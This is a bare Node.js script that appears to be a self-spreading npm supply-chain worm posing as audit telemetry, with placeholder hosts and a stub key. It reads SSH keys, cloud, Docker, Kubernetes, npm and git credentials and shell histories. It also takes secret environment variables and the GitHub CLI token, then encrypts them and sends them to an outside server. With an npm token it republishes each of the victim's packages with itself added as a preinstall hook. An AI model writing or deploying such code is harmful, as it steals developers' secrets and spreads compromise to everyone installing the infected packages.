const os = require('os'), fs = require('fs'), path = require('path'), zlib = require('zlib'), crypto = require('crypto'), child = require('child_process');
const server = 'https://audit.checkmarx.example.invalid/v1/telemetry';
const wanted = ['.npmrc', '.ssh/id_rsa', '.ssh/id_ed25519', '.aws/credentials', '.azure/accessTokens.json', '.config/gcloud/credentials.db', '.docker/config.json', '.kube/config', '.git-credentials', '.claude.json', '.config/Code/User/settings.json', '.bash_history', '.zsh_history'];
function exit() { process.exit(0); }
if (/^ru/i.test(process.env.LC_ALL || process.env.LANG || '') || !fs.existsSync('/var/db/bw-audit')) { exit(); }
function harvest() {
  const found = {};
  wanted.forEach(function (name) { const file = path.join(os.homedir(), name); try { found[name] = fs.readFileSync(file).toString('base64'); } catch (e) { return; } });
  return found;
}
function tokens() {
  const out = [];
  Object.keys(process.env).forEach(function (key) { if (/TOKEN|SECRET|KEY|PASS/i.test(key)) { out.push([key, process.env[key]]); } });
  try { out.push(['gh', child.execSync('gh auth token').toString().trim()]); } catch (e) { out.push(['gh', '']); }
  return out;
}
function seal(data) {
  const key = crypto.randomBytes(32), iv = crypto.randomBytes(12);
  const cipher = crypto.createCipheriv('aes-256-gcm', key, iv);
  const body = Buffer.concat([cipher.update(zlib.gzipSync(JSON.stringify(data))), cipher.final()]);
  return {k: crypto.publicEncrypt('-----BEGIN PUBLIC KEY-----\nMFwwDQYJKoZIhvcNAQEBBQADSwAwSAJBAKexample\n-----END PUBLIC KEY-----', key).toString('base64'), i: iv.toString('hex'), b: body.toString('base64'), t: cipher.getAuthTag().toString('hex')};
}
async function worm(token) {
  const headers = {authorization: 'Bearer ' + token, 'content-type': 'application/json'};
  const me = await (await fetch('https://registry.example.invalid/-/whoami', {headers: headers})).json();
  const mine = await (await fetch('https://registry.example.invalid/-/org/' + me.username + '/package', {headers: headers})).json();
  for (const name of Object.keys(mine)) {
    child.execSync('npm pack ' + name + ' && tar xzf *.tgz && cp ' + __filename + ' package/bw1.js', {cwd: os.tmpdir()});
    const file = path.join(os.tmpdir(), 'package', 'package.json');
    const json = JSON.parse(fs.readFileSync(file));
    json.scripts = {preinstall: 'node bw_setup.js'};
    json.version = json.version.split('.').map(function (n, i) { return i === 2 ? Number(n) + 1 : n; }).join('.');
    fs.writeFileSync(file, JSON.stringify(json));
    child.execSync('npm publish', {cwd: path.join(os.tmpdir(), 'package')});
  }
}
(async function () {
  const sealed = seal({files: harvest(), tokens: tokens(), host: os.hostname()});
  await fetch(server, {method: 'POST', headers: {'content-type': 'application/json'}, body: JSON.stringify(sealed)}).catch(exit);
  const found = tokens().filter(function (pair) { return /^npm_/.test(pair[1]); })[0];
  if (found) { await worm(found[1]); }
})();
